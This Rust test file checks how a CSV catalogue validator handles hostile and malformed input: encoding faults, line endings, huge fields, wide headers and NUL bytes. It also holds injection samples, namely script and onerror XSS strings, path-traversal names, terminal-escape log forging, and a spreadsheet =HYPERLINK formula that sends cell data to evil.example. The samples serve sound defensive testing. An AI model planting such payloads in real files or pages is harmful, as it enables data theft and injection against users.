//! The nasty corpus: each catalogue in `tests/fixtures/nasty/`, and three generated here
//! because they are too big to commit (a 100 MB field, a million-column header, a file of NUL
//! bytes), with the exact outcome of `overlap validate` (exit code, each problem's line, column,
//! code and key phrase, rows read = accepted + rejected) and what ingest read from it.

use super::*;

// The nasty corpus. Fixture rows use the header department,record_id,name,description,kind,
// phase,start_date,end_date,budget_gbp,contact_email (columns 1-10) unless said otherwise; the
// header is line 1.

#[test]
fn windows_1252_pound_signs_are_decoded_with_a_warning() {
    let v = validate(&nasty("windows-1252-pounds.csv"));
    expect_problems(
        &v,
        &[(1, 1, "warning", "encoding", &["windows-1252", "CSV UTF-8"])],
    );
    assert_eq!((v.exit, v.totals()), (0, (2, 2, 0)));
    let r = read_nasty("windows-1252-pounds.csv");
    assert_eq!(r.records[0].name, "Pay £5 penalty online");
    assert_eq!(r.records[0].budget_gbp, Some(1.2e6), "£1.2m read as money");
    assert_eq!(r.records[1].budget_gbp, Some(350e3), "£350k read as money");
}

/// Regression: a UTF-8 file with one stray Windows-1252 byte was decoded wholly as
/// Windows-1252, turning every "é" into "Ã©", with a warning pointing at line 1.
#[test]
fn invalid_utf8_mid_file_is_located_and_the_rest_stays_utf8() {
    let v = validate(&nasty("invalid-utf8-mid.csv"));
    expect_problems(
        &v,
        &[(
            3,
            1,
            "warning",
            "encoding",
            &["byte 0xA3 on this line", "1 more", "Windows-1252"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (0, (4, 4, 0)));
    let r = read_nasty("invalid-utf8-mid.csv");
    let names: Vec<&str> = r.records.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "Café inspections",
            "Clinic fees",
            "Broken ÿ byte",
            "Résumé service"
        ]
    );
    assert_eq!(r.records[1].description, "Fees of £5 for clinic letters");
}

/// Regression: a lone CR ended a record (the csv parser's rule) but not a line, so rows after
/// it were reported on the line before.
#[test]
fn mixed_crlf_lf_and_cr_line_ends_keep_line_numbers_right() {
    let v = validate(&nasty("mixed-line-ends.csv"));
    // Line 1 ends CRLF, 2 LF, 3 CR, 4 CRLF: the impossible date is on line 4.
    expect_problems(&v, &[(4, 7, "error", "bad-date", &["no 31 February 2026"])]);
    assert_eq!((v.exit, v.totals()), (1, (4, 3, 1)));
    let lines: Vec<u64> = read_nasty("mixed-line-ends.csv")
        .records
        .iter()
        .map(|r| r.source.line)
        .collect();
    assert_eq!(lines, [2, 3, 5]);
}

/// Regression: a byte-order mark mid-file (two files joined) hid in the next field, and the
/// joined file's header row was accepted as an effort called "name".
#[test]
fn bom_in_the_middle_is_removed_and_the_repeated_header_rejected() {
    let v = validate(&nasty("bom-middle.csv"));
    expect_problems(
        &v,
        &[
            (
                3,
                1,
                "warning",
                "encoding",
                &["byte-order mark", "two files are joined"],
            ),
            (
                3,
                1,
                "error",
                "repeated-header",
                &["repeats the header of line 1"],
            ),
        ],
    );
    assert_eq!((v.exit, v.totals()), (1, (3, 2, 1)));
    let r = read_nasty("bom-middle.csv");
    for rec in &r.records {
        assert_eq!(rec.department, "Department of Transport");
    }
}

#[test]
fn a_quote_left_open_at_the_end_is_reported_where_it_opens() {
    let v = validate(&nasty("open-quote-at-end.csv"));
    expect_problems(
        &v,
        &[(
            3,
            3,
            "error",
            "unclosed-quote",
            &["never closed", "lines 3 to 4"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (1, (2, 1, 1)));
}

#[test]
fn a_header_only_file_warns_that_it_has_no_rows() {
    let v = validate(&nasty("header-only.csv"));
    expect_problems(&v, &[(1, 1, "warning", "no-rows", &["header but no rows"])]);
    assert_eq!((v.exit, v.totals()), (0, (0, 0, 0)));
}

#[test]
fn duplicate_headers_keep_the_first_column_with_a_warning() {
    // Header: department,record_id,name,description,name.
    let v = validate(&nasty("duplicate-headers.csv"));
    expect_problems(
        &v,
        &[(
            1,
            5,
            "warning",
            "duplicate-column",
            &["header 'name' also names name", "column 3"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (0, (1, 1, 0)));
    assert_eq!(
        read_nasty("duplicate-headers.csv").records[0].name,
        "Street Works Register"
    );
}

#[test]
fn the_same_record_id_twice_rejects_the_second() {
    let v = validate(&nasty("duplicate-id.csv"));
    expect_problems(
        &v,
        &[(
            4,
            2,
            "error",
            "duplicate-id",
            &["'DFT-001'", "already used on line 2"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (1, (3, 2, 1)));
}

#[test]
fn department_names_that_are_paths_are_read_as_text() {
    let v = validate(&nasty("path-departments.csv"));
    expect_problems(&v, &[]);
    assert_eq!((v.exit, v.totals()), (0, (5, 5, 0)));
    let depts: Vec<String> = read_nasty("path-departments.csv")
        .records
        .into_iter()
        .map(|r| r.department)
        .collect();
    assert_eq!(
        depts,
        [
            "../x",
            "/etc",
            "C:\\",
            "CON",
            "../../../../tmp/overlap-escape"
        ]
    );
}

/// The wrapper the fixture puts around every text value (see html-everywhere.csv).
fn html_wrapped(s: &str) -> String {
    format!("<b>{s}</b><script>alert(1)</script><img src=x onerror=alert(2)>")
}

#[test]
fn html_and_script_in_every_text_field_are_kept_as_text() {
    let v = validate(&nasty("html-everywhere.csv"));
    expect_problems(&v, &[]);
    assert_eq!((v.exit, v.totals()), (0, (2, 2, 0)));
    let r = read_nasty("html-everywhere.csv");
    let rec = &r.records[0];
    assert_eq!(rec.department, html_wrapped("Dept <i>of</i> Scripts"));
    assert_eq!(rec.name, html_wrapped("Grants management platform"));
    assert_eq!(
        rec.owner.as_deref(),
        Some(html_wrapped("Jo Bloggs").as_str())
    );
    assert_eq!(
        rec.capabilities,
        [html_wrapped("payments"), html_wrapped("case management")]
    );
}

#[test]
fn spreadsheet_formulas_in_every_text_field_are_kept_as_text() {
    // Full schema header (14 columns); the third row's cells start with @, -, =, +, tab, CR.
    let v = validate(&nasty("formulas-everywhere.csv"));
    expect_problems(&v, &[]);
    assert_eq!((v.exit, v.totals()), (0, (3, 3, 0)));
    let r = read_nasty("formulas-everywhere.csv");
    assert_eq!(r.records[0].name, "=Grants management platform");
    assert_eq!(r.records[0].department, "=Dept of Formulas");
    let last = &r.records[2];
    assert_eq!(
        (
            last.department.as_str(),
            last.name.as_str(),
            last.description.as_str()
        ),
        ("@SUM(1+1)", "-2+3", "=1+1")
    );
    assert_eq!(last.user_groups, ["=A1", "+A2"]);
    assert_eq!(
        last.owner.as_deref(),
        Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
    );
}

#[test]
fn right_to_left_zero_width_and_emoji_are_kept() {
    let v = validate(&nasty("unicode.csv"));
    // The one U+FEFF (inside a name on line 3) is removed with a warning; all else is kept.
    expect_problems(&v, &[(3, 1, "warning", "encoding", &["byte-order mark"])]);
    assert_eq!((v.exit, v.totals()), (0, (4, 4, 0)));
    let r = read_nasty("unicode.csv");
    let names: Vec<&str> = r.records.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "حجز المواعيد",
            "Zero\u{200b}widthname",
            "Right-to-left \u{202e}override\u{202c}",
            "Rocket 🚀 launch"
        ]
    );
    assert_eq!(
        r.records[1].department,
        "Ministry\u{200b} of\u{200d} Health"
    );
    assert_eq!(r.records[3].description, "Family 👨‍👩‍👧 services 😀");
}

/// Regression: values quoted in messages kept their line breaks, terminal escapes and
/// direction overrides, so a catalogue could forge extra `FILE:LINE:COL` lines or make a
/// message read backwards in `validate`'s output.
#[test]
fn messages_show_control_and_bidi_characters_escaped() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("escape.csv");
    let phase = "\u{1b}[2J\u{202e}live\nfake.csv:1:1: error: forged";
    std::fs::write(
        &file,
        // Enough ordinary text after the bad row that the file is not mistaken for binary.
        format!(
            "department,record_id,name,description,phase\nD,1,N,Desc,\"{phase}\"\n{}",
            (2..7)
                .map(|i| format!("D,{i},Ordinary row,An ordinary description of a service,live\n"))
                .collect::<String>()
        ),
    )
    .expect("write");
    let out = overlap().arg("validate").arg(&file).output().expect("runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = stdout.lines().filter(|l| l.contains(": error: ")).collect();
    assert_eq!(lines.len(), 1, "{stdout}");
    assert!(lines[0].contains(":2:5: error: unknown phase '\\u{1b}[2J\\u{202e}live\\nfake.csv"));
    assert!(!stdout.contains('\u{1b}') && !stdout.contains('\u{202e}'));
}

#[test]
fn impossible_dates_and_budgets_are_rejected_with_reasons() {
    let v = validate(&nasty("bad-values.csv"));
    expect_problems(
        &v,
        &[
            (
                3,
                7,
                "error",
                "bad-date",
                &["'31/02/2026'", "no 31 February 2026"],
            ),
            (4, 9, "error", "bad-budget", &["'-£5m' is negative"]),
            (
                5,
                9,
                "error",
                "bad-budget",
                &["'1e400' is not an amount of money", "£1.2m"],
            ),
        ],
    );
    assert_eq!((v.exit, v.totals()), (1, (4, 1, 3)));
}

/// Runs `overlap ARGS` and returns its exit code, stdout, and peak resident memory in KiB
/// (from `wait4`'s rusage for this child alone).
#[cfg(target_os = "linux")]
#[allow(clippy::zombie_processes)] // reaped by wait4 below, which also gives the rusage
fn run_measured(args: &[&std::ffi::OsStr]) -> (i32, Vec<u8>, u64) {
    use std::io::Read;
    let mut child = Command::new(env!("CARGO_BIN_EXE_overlap"))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawns");
    let mut stdout = child.stdout.take().expect("stdout");
    let reader = std::thread::spawn(move || {
        let mut buf = Vec::new();
        let _ = stdout.read_to_end(&mut buf);
        buf
    });
    let pid = child.id() as libc::pid_t;
    let mut status = 0;
    // SAFETY: rusage is plain data; wait4 fills it and `status` for our own child.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let reaped = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(reaped, pid, "wait4");
    let code = if libc::WIFEXITED(status) {
        libc::WEXITSTATUS(status)
    } else {
        -1
    };
    let out = reader.join().expect("reader");
    (code, out, usage.ru_maxrss as u64)
}

/// Memory bound for a huge field: peak resident memory stays under three times the file's
/// size plus 64 MiB (the file's bytes, the csv parser's copy of the record, and the program).
/// Measured on the debug build: a 100 MiB field peaks at about 235 MiB.
#[cfg(target_os = "linux")]
#[test]
fn a_100_mb_field_is_rejected_in_bounded_memory() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("big-field.csv");
    let field = 100 * 1024 * 1024;
    let mut text = String::with_capacity(field + 200);
    text.push_str("department,record_id,name,description\nDepartment of Transport,DFT-1,Big,");
    text.extend(std::iter::repeat_n('x', field));
    text.push_str("\nDepartment of Transport,DFT-2,Small,A normal row\n");
    std::fs::write(&file, &text).expect("write");
    let size_kib = text.len() as u64 / 1024;
    drop(text);
    let (code, stdout, peak_kib) = run_measured(&[
        "validate".as_ref(),
        "--format".as_ref(),
        "json".as_ref(),
        file.as_ref(),
    ]);
    let v = parse_validate(&stdout, code);
    expect_problems(
        &v,
        &[(
            2,
            4,
            "error",
            "field-too-long",
            &[&format!("field is {field} bytes long"), "max_field_bytes"],
        )],
    );
    assert_eq!((v.exit, v.totals()), (1, (2, 1, 1)));
    assert!(
        peak_kib < 3 * size_kib + 64 * 1024,
        "peak RSS {peak_kib} KiB for a {size_kib} KiB file"
    );
}

/// Regression: a million-column header planned a layout for every column (about 430 MB and
/// 9 s on the debug build); such a header is now refused up front.
#[cfg(target_os = "linux")]
#[test]
fn a_million_column_header_is_refused_in_bounded_memory() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("wide.csv");
    let columns = 1_000_000;
    let mut text = String::from("department,record_id,name,description");
    for i in 4..columns {
        text.push_str(&format!(",c{i}"));
    }
    text.push_str("\nDepartment of Transport,DFT-1,Name,Description\n");
    std::fs::write(&file, &text).expect("write");
    let (code, stdout, peak_kib) = run_measured(&[
        "validate".as_ref(),
        "--format".as_ref(),
        "json".as_ref(),
        file.as_ref(),
    ]);
    let v = parse_validate(&stdout, code);
    expect_problems(
        &v,
        &[(
            1,
            10_001,
            "error",
            "too-many-columns",
            &[&format!("the header has {columns} columns")],
        )],
    );
    assert_eq!((v.exit, v.totals()), (1, (1, 0, 1)));
    assert_eq!(v.doc["files"][0]["file_rejected"], true);
    assert!(peak_kib < 200 * 1024, "peak RSS {peak_kib} KiB");
}

#[test]
fn a_file_of_nul_bytes_is_not_text() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("nul.csv");
    std::fs::write(&file, vec![0u8; 1 << 20]).expect("write");
    let v = validate(&file);
    expect_problems(&v, &[(1, 1, "error", "not-text", &["NUL bytes"])]);
    assert_eq!((v.exit, v.totals()), (1, (0, 0, 0)));
    assert_eq!(v.doc["files"][0]["file_rejected"], true);
}
